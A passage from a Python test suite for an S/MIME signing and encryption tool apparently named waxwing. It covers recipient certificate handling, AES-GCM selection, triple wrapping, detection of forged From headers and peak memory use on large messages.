        assert b"HP-Outer" not in opened and opened.count(b"From:") == 1
        plain = openssl("cms", "-decrypt", "-recip", pki(f"{who}.crt"), "-inkey", pki(f"{who}.key"), stdin=letter)
        if sign:
            plain = openssl("cms", "-verify", "-CAfile", pki("ca.crt"), stdin=plain)
        assert b"ten pounds" in plain


def test_own_key_for_each_letter(pki):
    one, two = (der_of(waxwing("smime", "encrypt", "--certificates", pki("jones.crt"), stdin=HEAD + BODY)) for _ in "12")
    assert one[-64:] != two[-64:]


def test_capable_recipient_gets_gcm(pki):
    """RFC 4262: the certificate itself says it."""
    gcm = der(0x30, der(0x30, bytes.fromhex("0609608648016503040 12e".replace(" ", ""))))
    if not os.path.exists(pki("modern.crt")):
        pki.leaf("modern", san="email:modern@foo.com", **{"1.2.840.113549.1.9.15": "DER:" + ":".join(f"{c:02x}" for c in gcm)})
    letter = waxwing("smime", "encrypt", "--certificates", pki("modern.crt"), stdin=HEAD + BODY)
    assert judged(pki, letter, key="modern")["decryption"]["algorithm"] == "AES-256-GCM"
    both = pki.write("both", pki.read("modern.crt") + pki.read("jones.crt"))
    letter = waxwing("smime", "encrypt", "--certificates", both, stdin=HEAD + BODY)
    assert judged(pki, letter, key="modern")["decryption"]["algorithm"] == "AES-256-CBC"


def test_wrong_recipients(pki):
    for name in ("short", "expired", "usage2"):
        if name == "usage2":
            pki.leaf(name, san="email:x@foo.com", keyUsage="digitalSignature")
        else:
            certificate(pki, name)
        assert waxwing("smime", "encrypt", "--certificates", pki(f"{name}.crt"), stdin=HEAD + BODY, status=1) == b""


def test_triple_wrap_by_commands(pki):
    letter = HEAD + BODY
    for args in (("sign", "--key", pki("smith.pem")), ("encrypt", "--certificates", pki("jones.crt")),
                 ("sign", "--key", pki("smith.pem"))):
        letter = waxwing("smime", *args, stdin=letter)
    v = judged(pki, letter, key="jones")
    assert v["verdict"] == "good" and len(v["layers"]) == 3 and v["protected"]["hp"] == "clear", v


def test_author_inside(pki):
    """The author that was signed, and another outside."""
    letter = waxwing("smime", "sign", "--key", pki("smith.pem"), stdin=HEAD + BODY)
    v = judged(pki, letter.replace(b"From: Smith <smith@bar.com>", b"From: ceo@bar.com", 1))
    assert v["verdict"] == "mismatch" and "from-inside" in problems(v), v
    # The one who signed outside, somebody else inside.
    inside = b"Content-Type: text/plain; hp=\"clear\"\r\nFrom: ceo@bar.com\r\n\r\nYou are fired.\r\n"
    v = judged(pki, signed(pki, body=inside))
    assert v["verdict"] == "mismatch" and "from-inside" in problems(v), v


def test_outer_field_changed(pki):
    letter = waxwing("smime", "encrypt", "--certificates", pki("jones.crt"), stdin=HEAD + BODY)
    v = judged(pki, letter.replace(b"Subject: [...]", b"Subject: [list]"), key="jones")
    assert "outer-fields" in problems(v) and v["verdict"] == "encrypted", v


def test_verify_says_it(pki):
    empty = pki.write("records", b"")
    path = pki.write("letter", signed(pki))
    said = waxwing("verify", path, "--records", empty, "--ca", pki("ca.crt"), status=None).decode()
    assert "S/MIME: Signed by smith@bar.com" in said and "smime=pass body.smime-identifier=smith@bar.com" in said
    v = json.loads(waxwing("verify", path, "--json", "--records", empty, "--ca", pki("ca.crt"), status=None))
    assert v["smime"]["verdict"] == "good"
    assert waxwing("smime", "verify", "--ca", pki("ca.crt"), stdin=signed(pki)).startswith(b"good: ")
    assert waxwing("smime", "verify", stdin=signed(pki), status=1).startswith(b"untrusted: ")


# ---- memory ----

MEASURE = ("import resource, subprocess, sys; p = subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL); "
           "assert p.returncode == 0; print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")


def peak(args, path):
    """The largest resident size of a command that reads a file, MiB: its own memory and what is mapped.
    From a small process, since the kernel counts what was resident before execve."""
    with open(path) as f:
        said = subprocess.run(["/usr/bin/python3", "-c", MEASURE, WAXWING, *map(str, args)], stdin=f, stdout=subprocess.PIPE, check=True)
    return int(said.stdout) / 1024


def test_memory(pki):
    """A letter of 25 MiB: mapped once, decoded once where it has to be, and no more."""
    line = base64.b64encode(os.urandom(54)) + b"\r\n"
    body = b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n" + line * (25 * 1024 * 1024 // len(line))
    plain = pki.write("large", HEAD + body)
    text, wrapped, base = 25, 34, 24
    assert peak(("smime", "sign", "--key", pki("smith.pem")), plain) < text + base
    assert peak(("smime", "encrypt", "--certificates", pki("jones.crt")), plain) < text + base
    large = pki.write("large.signed", waxwing("smime", "sign", "--key", pki("smith.pem"), stdin=HEAD + body))
    assert peak(("smime", "verify", "--ca", pki("ca.crt")), large) < text + base
    large = pki.write("large.sealed", waxwing("smime", "encrypt", "--key", pki("smith.pem"), "--certificates", pki("jones.crt"),
                                              stdin=HEAD + body))
    assert peak(("smime", "decrypt", "--key", pki("jones.pem"), "--ca", pki("ca.crt")), large) < wrapped + text + base
